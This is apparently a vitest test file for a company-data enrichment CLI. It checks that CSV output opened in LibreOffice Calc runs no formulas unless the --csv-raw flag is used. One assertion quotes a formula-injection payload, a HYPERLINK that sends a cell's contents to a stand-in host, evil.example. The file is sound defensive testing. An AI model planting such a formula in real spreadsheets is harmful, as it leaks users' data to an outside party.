// The formula rule read back as a spreadsheet program reads it: a batch's CSV output opened by
// LibreOffice Calc (headless, its default CSV import, which runs formulas) and saved as .xlsx has
// no formula cell, while the same output written with --csv-raw has the input's formulas live.
// LibreOffice is not a dependency of the project: without `soffice` these tests say so and skip.
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { SandboxHandle } from '../../src/sandbox/index.js';
import { runPiped } from '../helpers/in-process.js';
import { sandboxAndDirForTests } from '../helpers/sandbox.js';
import { cannotRunHere } from '../helpers/skips.js';

const FIXTURE = fileURLToPath(new URL('../fixtures/workbooks/companies.xlsx', import.meta.url));

function sofficeMissing(): string | undefined {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore', timeout: 60_000 });
    return undefined;
  } catch {
    return 'LibreOffice (soffice) is not installed';
  }
}
const skip = cannotRunHere('libreoffice', sofficeMissing());

let sandbox: SandboxHandle;
let dir: string;
sandboxAndDirForTests('cd-formula-rule-', { companies: 200 }, (s, d) => {
  sandbox = s;
  dir = d;
});

/** Opens CSV files in LibreOffice as a user would and returns the formulas of each, by file. */
async function formulasAfterCalc(files: string[]): Promise<string[][]> {
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=file://${join(dir, 'lo-profile')}`,
      '--headless',
      '--convert-to',
      'xlsx',
      '--outdir',
      join(dir, 'calc'),
      ...files,
    ],
    { stdio: 'ignore', timeout: 120_000 },
  );
  const all: string[][] = [];
  for (const name of files) {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(
      join(
        dir,
        'calc',
        `${name
          .split('/')
          .at(-1)
          ?.replace(/\.csv$/, '')}.xlsx`,
      ),
    );
    const formulas: string[] = [];
    workbook.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas.push(cell.formula);
      }),
    );
    all.push(formulas);
  }
  return all;
}

describe.skipIf(skip)('CSV output opened in LibreOffice Calc', () => {
  it('runs no formula of the input or the results; with --csv-raw the input formulas run', async () => {
    const enrich = (output: string, global: string[]) =>
      runPiped(
        ['--base-url', sandbox.url, '-q', ...global, 'enrich', '--input', FIXTURE, '--output', output],
        {
          env: {
            COMPANY_DATA_API_KEY: sandbox.keys.full,
            COMPANY_DATA_STORE: join(dir, 'store.db'),
            XDG_CONFIG_HOME: join(dir, 'config'),
            XDG_CACHE_HOME: join(dir, 'cache'),
          },
        },
      );
    const safe = join(dir, 'safe.csv');
    const raw = join(dir, 'raw.csv');
    expect((await enrich(safe, [])).code).toBe(6);
    expect((await enrich(raw, ['--csv-raw'])).code).toBe(6);
    const [safeFormulas, rawFormulas] = await formulasAfterCalc([safe, raw]);
    expect(safeFormulas).toEqual([]);
    // The proof that the check can fail: the input's cells, byte for byte, are live formulas.
    expect(rawFormulas).toContain('HYPERLINK("http://evil.example/?x="&A2,"Click")');
  }, 180_000);
});
